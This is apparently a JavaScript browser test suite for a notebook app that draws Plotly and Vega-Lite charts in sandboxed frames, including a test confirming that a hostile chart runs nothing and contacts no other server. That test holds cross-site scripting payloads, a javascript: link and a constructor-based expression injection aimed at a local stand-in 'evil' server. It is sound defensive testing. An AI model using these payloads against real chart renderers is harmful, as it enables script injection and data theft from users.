// Charts that cells display, as a person sees them and as a hostile cell would have them.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { test } from 'node:test';
import { answered, blocks, openPage, send, varro, waitUntilAnswered } from './page.mjs';

const plotly = 'application/vnd.plotly.v1+json';
const vegaLite = 'application/vnd.vegalite.v5+json';

// A cell that shows objects as Plotly's and Altair's are: each is a media type and Python for its data.
const cellThatShows = (...charts) => `\`\`\`python
class Chart:
    def __init__(self, kind, data):
        self.kind, self.data = kind, data

    def _repr_mimebundle_(self, include=None, exclude=None):
        return {self.kind: self.data, "text/plain": "Chart()"}

${charts.map(([kind, data]) => `display(Chart("${kind}", ${data}))`).join('\n')}
\`\`\``;

const figures = (page) => page.locator('[data-block="tool-call"] .chart-output');
const states = (page) => figures(page).evaluateAll((found) => found.map((figure) => figure.dataset.display));

// The document of a drawn chart; frames load when they come near the screen.
async function drawn(page, index) {
  const figure = figures(page).nth(index);
  await figure.scrollIntoViewIfNeeded();
  await page.locator('.chart-output[data-display="drawn"]').and(figure).waitFor(answered);
  return (await figure.locator('iframe').elementHandle()).contentFrame();
}

async function failed(page, index) {
  const figure = figures(page).nth(index);
  await figure.scrollIntoViewIfNeeded();
  await page.locator('.chart-output[data-display="failed"]').and(figure).waitFor(answered);
  assert.equal(await figure.locator('iframe').count(), 0);
  assert.ok(await figure.locator('figcaption').isVisible(), 'the summary stands there instead');
  assert.ok(await figure.locator('a[download]').isVisible());
}

test('charts of Plotly and Altair are drawn in frames and answer to the mouse, and a reload shows the same', async () => {
  const page = await openPage({ viewport: { width: 1280, height: 1500 } });
  await send(page, cellThatShows(
    [plotly, '{"data": [{"type": "bar", "x": ["a", "b", "c"], "y": [3, 1, 2], "name": "n"}], '
      + '"layout": {"title": {"text": "Sales"}, "height": 320}}'],
    [vegaLite, '{"$schema": "https://vega.github.io/schema/vega-lite/v5.20.1.json", "title": "Rates", "width": 300, '
      + '"height": 150, "data": {"values": [{"k": "a", "v": 3}, {"k": "b", "v": 1}]}, '
      + '"transform": [{"calculate": "datum.v * 10", "as": "w"}], "mark": {"type": "bar", "tooltip": True}, '
      + '"encoding": {"x": {"field": "k", "type": "nominal"}, "y": {"field": "w", "type": "quantitative"}}}'],
    [plotly, '{"data": [{"type": "scattergl", "mode": "markers", "x": [1, 2], "y": [3, 4]}], "layout": {}}']));
  await waitUntilAnswered(page);
  for (const reloaded of [false, true]) {
    if (reloaded) await page.reload();
    const bars = await drawn(page, 0);
    assert.equal(await bars.locator('.bars .point').count(), 3);
    assert.equal(await bars.locator('.gtitle').textContent(), 'Sales');
    assert.equal(await figures(page).nth(0).locator('iframe').evaluate((frame) => frame.clientHeight), 320);
    assert.equal(await figures(page).nth(0).locator('figcaption').isVisible(), false);
    await bars.locator('.bars .point').first().hover({ force: true });
    await bars.locator('.hoverlayer .hovertext').first().waitFor();

    const rates = await drawn(page, 1);
    assert.equal(await rates.locator('svg .mark-rect path').count(), 2);
    await rates.locator('svg .mark-rect path').first().hover();
    await rates.locator('#vg-tooltip-element', { hasText: '30' }).waitFor(); // a computed value: expressions work

    const painted = await drawn(page, 2); // its shaders are compiled without code out of strings
    assert.ok(await painted.locator('canvas.gl-canvas').count() > 0);
  }
  assert.equal(await page.evaluate(() => 'Plotly' in window || 'vega' in window), false);
  const [download] = await Promise.all([page.waitForEvent('download'), figures(page).nth(0).locator('a[download]').click()]);
  assert.equal(download.suggestedFilename().replace(/\d+/g, 'N'), 'mN-N.json');
  assert.deepEqual(page.complaints.filter((text) => !/GL Driver Message/.test(text)), []);
  await page.context().close();
});

test('a hostile chart runs nothing, reads nothing of the page and asks no other server', async (t) => {
  const asked = [];
  const elsewhere = createServer((request, response) => { asked.push(request.url); response.end(); });
  await new Promise((resolve) => { elsewhere.listen(0, '127.0.0.1', resolve); });
  t.after(() => elsewhere.close());
  const evil = `http://127.0.0.1:${elsewhere.address().port}`;
  const script = '</script><script>self.stolen = 1</script><img src=x onerror=self.stolen=1><!--<script>';
  const page = await openPage({ viewport: { width: 1280, height: 1500 } });
  await send(page, cellThatShows(
    [plotly, `{"data": [{"y": [1, 2], "name": "${script}", "text": ["${script}", "<a href='javascript:self.stolen=1'>x</a>"],
      "mode": "text"}], "layout": {"title": {"text": "${script}"}, "paper_bgcolor": "url(${evil}/p)",
      "images": [{"source": "${evil}/i.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}]},
      "config": {"plotlyServerURL": "${evil}", "topojsonURL": "${evil}/"}}`],
    [vegaLite, `{"title": "${script}", "data": {"values": [{"u": "${evil}/m.png", "v": 1}]},
      "mark": {"type": "bar"}, "encoding": {"x": {"field": "v", "type": "quantitative"}, "tooltip": {"field": "u"}},
      "transform": [{"calculate": "datum.constructor.constructor('self.stolen = 1')()", "as": "w"}],
      "usermeta": {"embedOptions": {"ast": False, "actions": True, "config": "${evil}/config.json",
        "patch": "${evil}/patch.json", "loader": {"baseURL": "${evil}"}}}}`],
    [vegaLite, `{"data": {"url": "${evil}/data.csv"}, "mark": "point"}`],
    [vegaLite, `{"data": {"values": [{"u": "${evil}/m.png"}]}, "mark": "image", "encoding": {"url": {"field": "u"}}}`],
    [plotly, '{"data": [{"type": "scattermap", "lat": [1], "lon": [2]}], "layout": {}}'],
    [plotly, '{"data": [{"type": "choropleth", "locations": ["FRA"], "z": [1]}], "layout": {}}']));
  await waitUntilAnswered(page);
  const frame = await drawn(page, 0);
  await figures(page).nth(1).scrollIntoViewIfNeeded();
  await page.waitForFunction(() => document.querySelectorAll('.chart-output')[1].dataset.display, null, answered);
  for (const index of [2, 3, 4, 5]) await failed(page, index);

  for (const one of page.frames().slice(1)) {
    assert.equal(await one.evaluate(() => self.stolen), undefined);
    assert.equal(await one.evaluate(() => document.querySelectorAll('img[src="x"], .vega-actions').length), 0);
  }
  const tried = await frame.evaluate(async (addresses) => {
    const attempt = async (what) => { try { return await what(); } catch { return 'refused'; } };
    const load = (src) => new Promise((resolve, reject) => {
      const element = document.createElement('script');
      Object.assign(element, { src, onload: () => resolve('loaded'), onerror: reject });
      document.body.append(element);
    });
    return [
      self.origin,
      await attempt(() => document.cookie),
      await attempt(() => localStorage),
      await attempt(() => parent.document.title),
      await attempt(() => { open('about:blank').focus(); return 'opened'; }),
      ...await Promise.all(addresses.map((address) => attempt(() => fetch(address).then(() => 'fetched')))),
      ...await Promise.all(addresses.map((address) => attempt(() => load(address)))),
      // Last, because the policy does not hold for what the test's own message runs at once.
      await attempt(() => new Function('return "compiled"')()),
    ];
  }, [`${varro.url}/assets/page/main.js`, `${varro.url}/`, `${evil}/x.js`]);
  assert.deepEqual(tried, ['null', ...Array(tried.length - 1).fill('refused')]);
  assert.equal(await page.evaluate(() => self.stolen), undefined);
  assert.deepEqual(asked, []);
  await page.context().close();
});

test('what cannot be drawn, or is too large for it, is a summary with its data', async () => {
  const page = await openPage({ viewport: { width: 1280, height: 1500 }, colorScheme: 'dark' });
  await send(page, cellThatShows(
    [plotly, '{"data": 7}'],
    [vegaLite, '{"mark": "no such mark"}'],
    [plotly, '"no chart"'],
    [plotly, '{"data": [{"y": [1.25] * 170_000}], "layout": {"title": {"text": "Many"}}}'],
    [plotly, '{"data": [{"y": [1, 2]}], "layout": {"height": 5_000_000}}']));
  await waitUntilAnswered(page);
  for (const index of [0, 1, 2]) await failed(page, index);
  assert.equal(await figures(page).nth(3).locator('iframe').count(), 0);
  assert.match(await figures(page).nth(3).innerText(), /“Many”.*170000 points \(too large to be drawn here\)/);
  await drawn(page, 4);
  assert.ok(await figures(page).nth(4).locator('iframe').evaluate((frame) => frame.clientHeight) <= 900);
  assert.deepEqual(await states(page), ['failed', 'failed', 'failed', undefined, 'drawn']);
  assert.equal((await blocks(page)).filter((block) => block.kind === 'error').length, 0);
  assert.deepEqual(page.complaints, []);
  await page.context().close();
});
